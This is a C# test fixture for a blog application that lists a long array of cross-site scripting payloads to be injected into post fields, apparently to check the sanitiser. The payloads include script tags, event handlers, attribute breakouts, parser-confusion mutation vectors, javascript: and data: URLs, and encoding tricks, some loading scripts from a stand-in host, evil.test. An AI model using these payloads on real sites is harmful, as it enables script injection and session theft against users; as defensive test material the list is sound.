namespace Blog.Web.Tests;

/// <summary>What a stranger would write to have a script run in somebody else's browser: each is put into every field of a post.</summary>
internal static class HostilePayloads
{
    /// <summary>Each calls <c>alert</c> where it is not stopped.</summary>
    public static readonly string[] All =
    [
        // Elements.
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script >alert(1)</script >", "<script/x>alert(1)</script/x>", "<script\t>alert(1)</script\t>", "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)", "<script src=data:text/javascript,alert(1)></script>", "<script src=//evil.test/x.js></script>", "<script type=module>alert(1)</script>",
        "<script type=\"text/plain\" type=\"text/javascript\">alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><script xlink:href=\"data:,alert(1)\"></script></svg>",
        "<math><script>alert(1)</script></math>", "<noscript><script>alert(1)</script></noscript>", "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>", "<listing><script>alert(1)</script></listing>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=\"data:text/html,<script>alert(1)</script>\">", "<frameset onload=alert(1)>", "<frame src=javascript:alert(1)>",
        "<object data=javascript:alert(1)>", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>", "<embed src=javascript:alert(1)>", "<embed code=//evil.test/x.swf allowscriptaccess=always>", "<applet code=X archive=//evil.test/x.jar>",
        "<base href=javascript:alert(1)//>", "<base target=x href=//evil.test/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">", "<meta http-equiv=set-cookie content=a=b>",
        "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">", "<link rel=preload as=script href=//evil.test/x.js>", "<link rel=manifest href=//evil.test/m.json>",
        "<style>@import '//evil.test/x.css';</style>", "<style>*{background:url(javascript:alert(1))}</style>", "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationend=alert(1)>x</p>", "<style onload=alert(1)></style>",
        "<form action=javascript:alert(1)><input type=submit></form>", "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1) type=image>", "<input type=image src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>x</textarea>", "<select autofocus onfocus=alert(1)><option>x</select>", "<keygen autofocus onfocus=alert(1)>", "<button onclick=alert(1)>x</button>", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
        "<portal src=javascript:alert(1)>", "<fencedframe src=//evil.test/></fencedframe>", "<bgsound src=javascript:alert(1)>", "<layer src=//evil.test/x.js></layer>", "<marquee onstart=alert(1)>x</marquee>", "<plaintext onclick=alert(1)>x", "<image src=x onerror=alert(1)>",
        "<custom-element onclick=alert(1)>x</custom-element>", "<popover id=x popover onbeforetoggle=alert(1)>x</popover>", "<search onclick=alert(1)>x</search>", "<selectedcontent onclick=alert(1)>",
        // Handlers.
        "<img src=x onerror=alert(1)>", "<img src=x ONERROR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img src=x\u000Conerror=alert(1)>", "<img src=x:x onerror=alert(1)//", "<img src=\"x\" \"onerror=alert(1)\">",
        "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=\"alert&lpar;1&rpar;\">", "<img src=`x`onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img src onerror=alert(1) srcset=x,y>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"></use></svg>", "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>", "<svg><image href=x onerror=alert(1)></svg>",
        "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<head onclick=alert(1)>", "<video onerror=alert(1) src=x></video>", "<video><source onerror=alert(1)></video>", "<audio src onerror=alert(1)></audio>", "<video poster=javascript:alert(1)></video>",
        "<track default onload=alert(1) src=\"data:text/vtt,WEBVTT\">", "<details open ontoggle=alert(1)>x</details>", "<div onpointerrawupdate=alert(1)>x</div>", "<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</p>", "<a onclick=alert(1) href=#>x</a>",
        "<b/onmouseover=alert(1)//>x</b>", "<p onwheel=alert(1)>x", "<table background=javascript:alert(1)><td>x</table>", "<td onmouseenter=alert(1)>x</td>", "<p style=\"width:expression(alert(1))\">x</p>", "<p style=\"-moz-binding:url(//evil.test/x.xml#x)\">x</p>", "<p style=\"behavior:url(x.htc)\">x</p>",
        // Ends of what they are put into.
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "\" autofocus onfocus=alert(1) x=\"", "--><script>alert(1)</script>", "--!><script>alert(1)</script>", "]]><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "<!--</script><script>alert(1)//", "</article></main></body></html><script>alert(1)</script>", "\\\"});alert(1);//", "\u2028alert(1)//", "</a><a href=javascript:alert(1)>x",
        "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "<%= alert(1) %>", "#{alert(1)}", "*/alert(1)/*", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        // Parsers that disagree.
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg><desc><noscript></noscript><style><img src=x onerror=alert(1)></style></desc></svg>", "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href=javascript:alert(1)?>", "<!doctype html><script>alert(1)</script>", "<a title='\n\n<script>alert(1)</script>\n\n'>x</a>",
        "<div data-own=\"x\" onclick=alert(1)>x</div>", "<span data-own value=\"0\" onclick=alert(1)>x</span>", "<a id=x><a id=x name=body href=1>x</a></a><img name=getElementById>", "<x\u0000script>alert(1)</x\u0000script>", "<\u0000script>alert(1)</script>",
        // Addresses.
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\u0001javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "javascript\u200B:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "javascript%3Aalert(1)", "javascript://evil.test/%0Aalert(1)",
        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "DATA:,alert(1)", "blob:https://evil.test/x", "filesystem:https://evil.test/x", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:https://evil.test/x!/y", "file:///etc/passwd", "livescript:alert(1)", "mocha:alert(1)",
    ];
}
